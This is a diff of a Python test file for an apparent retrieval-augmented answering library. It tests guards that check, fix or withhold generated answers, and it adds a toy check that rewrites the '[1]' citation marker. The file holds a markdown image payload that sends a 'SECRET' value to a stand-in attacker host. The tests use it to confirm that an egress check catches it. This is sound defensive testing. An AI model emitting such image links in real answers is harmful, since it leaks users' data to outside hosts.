@@ -8,15 +8,31 @@ from typing import Any
 import pytest
 from pydantic import BaseModel
 
+from ragstone.protocols import Check
 from ragstone.testing import ScriptedModel
-from ragstone.types import Answer, Prompt
-from ragstone.validation.egress.check import EgressCheck
+from ragstone.types import Answer, Context, Prompt
 from ragstone.validation.policy import Guard, Policy
+from ragstone.verdicts import PASSED, Finding, Flaw, Subject
 from shouting import ABSTAINED, SHIPS, made
 
 IMAGE = "![x](https://evil.example/?q=SECRET)"
-FENCED = f"It ships [1].\n\n- ~~~\n  x\n[9]\n  ~~~\n  {IMAGE}\n"
-"""A marker that is taken out ends the code that the image stands in."""
+
+
+class NoOnes(Check):
+    """A check that nothing passes which holds a marker with the number 1."""
+
+    whole, fixes, last = False, True, True
+
+    async def check(self, subject: Subject, *, context: Context) -> Finding:
+        at = subject.text.find("[1]")
+        if at < 0:
+            return PASSED
+        fixed = subject.text.replace("[1]", "(one)")
+        return Finding(passed=False, reason="it holds a one", flaws=(Flaw(at, at + 3, "one"),), fixed=fixed)
+
+
+def ones(on_fail: Any) -> Guard:
+    return Guard(name="ones", check=NoOnes(), policy=Policy(on_fail=on_fail))
 
 
 class Steps(BaseModel):
@@ -25,44 +41,45 @@ class Steps(BaseModel):
     steps: list[str] = []
 
 
-async def answered(said: str, **options: Any) -> tuple[Answer, list[Any]]:
-    async with made(ScriptedModel([said])) as rag:
+async def answered(said: str, *checks: Guard, **options: Any) -> tuple[Answer, list[Any]]:
+    async with made(ScriptedModel([said]), *checks) as rag:
         await rag.ingest()
         stream = rag.stream(SHIPS, **options)
         pieces = [piece async for piece in stream]
     return stream.answer, pieces
 
 
-def egress(answer: Answer) -> list[bool]:
-    return [one.passed for one in answer.verdicts if one.check == "egress"]
+def passed(answer: Answer, name: str = "egress") -> list[bool]:
+    return [one.passed for one in answer.verdicts if one.check == name]
 
 
-async def test_what_citing_makes_of_code_is_looked_at_once_more():
-    answer, pieces = await answered(FENCED)
-    assert "evil" not in answer.text
-    assert "It ships [1]." in answer.text
-    assert egress(answer) == [False]
-    assert any("was changed by the check 'egress'" in notice for notice in answer.notices)
-    assert (pieces[-1].text, pieces[-1].restart) == (answer.text, True)
+async def test_what_citing_has_changed_is_looked_at_once_more():
+    answer, pieces = await answered("It ships soon [2].", ones("fix"))
+    assert answer.text == "It ships soon (one)."
+    assert passed(answer, "ones") == [False]
+    assert answer.notices == ("The answer was changed by the check 'ones': it holds a one.",)
+    assert ("".join(piece.text for piece in pieces[:-1]), pieces[-1].restart) == ("It ships soon [2].", True)
+    assert pieces[-1].text == answer.text
+
+
+async def test_where_it_may_not_be_shown_the_answer_abstains():
+    answer, _ = await answered("It ships soon [2].", ones("refrain"))
+    assert (answer.text, answer.abstained, answer.citations) == (ABSTAINED, True, ())
 
 
 async def test_an_answer_that_citing_leaves_alone_is_looked_at_once():
-    answer, _ = await answered(f"It ships [1].\n\n~~~\n{IMAGE}\n~~~\n")
+    answer, _ = await answered(f"It ships [1].\n\n```\n{IMAGE}\n```\n")
     assert IMAGE in answer.text
-    assert egress(answer) == [True]
+    assert passed(answer) == [True]
 
 
-@pytest.mark.parametrize(
-    ("answer", "note"),
-    [("It ships [1].", f"~~~\n{IMAGE}\n~~~"), ("It ships ` now [1].", f"`{IMAGE}`")],
-    ids=["a fence that JSON takes for a line", "marks of one text that meet those of another"],
-)
-async def test_the_texts_of_an_object_are_written_so_that_no_mark_of_theirs_counts(answer: str, note: str):
+async def test_the_texts_of_an_object_are_written_so_that_no_mark_of_theirs_counts():
+    answer, note = "It ships ` now [1].", f"`{IMAGE}`"
     found, pieces = await answered(json.dumps({"answer": answer, "note": note}), output=Steps)
     assert "![" not in found.text
     assert "://" not in found.text
     assert json.loads(found.text)["note"] == found.parsed.note == note
-    assert egress(found) == [False]
+    assert passed(found) == [False]
     assert pieces[-1].text == found.text
 
 
@@ -70,7 +87,7 @@ async def test_an_honest_object_is_written_as_it_is():
     found, _ = await answered(json.dumps({"answer": "It ships [1].", "note": "a `b` (c)"}), output=Steps)
     assert json.loads(found.text) == {"answer": "It ships [1].", "note": "a `b` (c)"}
     assert "\\u" not in found.text
-    assert all(egress(found))
+    assert all(passed(found))
 
 
 async def test_what_came_out_in_one_text_of_an_object_counts_in_the_next():
@@ -104,12 +121,4 @@ async def test_a_code_in_parts_never_comes_out_of_a_list_whole():
 @pytest.mark.parametrize("marker", [" [9]", " [1]", " [1]."])
 async def test_an_abstention_with_a_marker_is_one(marker: str):
     answer, _ = await answered(ABSTAINED.rstrip(".") + marker)
-    assert (answer.text, answer.abstained, answer.citations) == (ABSTAINED, True, ())
-
-
-async def test_where_it_may_not_be_shown_the_answer_abstains():
-    guard = Guard(name="egress", check=EgressCheck(), policy=Policy(on_fail="refrain"))
-    async with made(ScriptedModel([FENCED]), guard) as rag:
-        await rag.ingest()
-        answer = await rag.ask(SHIPS)
     assert (answer.text, answer.abstained, answer.citations) == (ABSTAINED, True, ())
